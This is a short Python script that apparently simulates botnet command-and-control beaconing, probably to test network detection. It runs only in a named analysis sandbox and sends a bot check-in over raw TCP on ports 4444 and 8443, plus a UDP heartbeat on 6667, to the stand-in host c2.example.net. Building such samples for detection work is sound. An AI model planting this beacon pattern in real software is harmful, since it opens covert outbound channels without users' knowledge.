#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Talks to its C2 on ports no web proxy expects: a raw TCP check-in on
# 4444 and 8443, and a UDP heartbeat on 6667.
import os
import socket
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

for port in (4444, 8443):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(("c2.example.net", port))
        s.sendall(b"HELLO bot-7f3a linux x86_64\n")
        s.recv(128)
    except OSError:
        pass
    finally:
        s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"HB bot-7f3a", ("c2.example.net", 6667))
u.close()
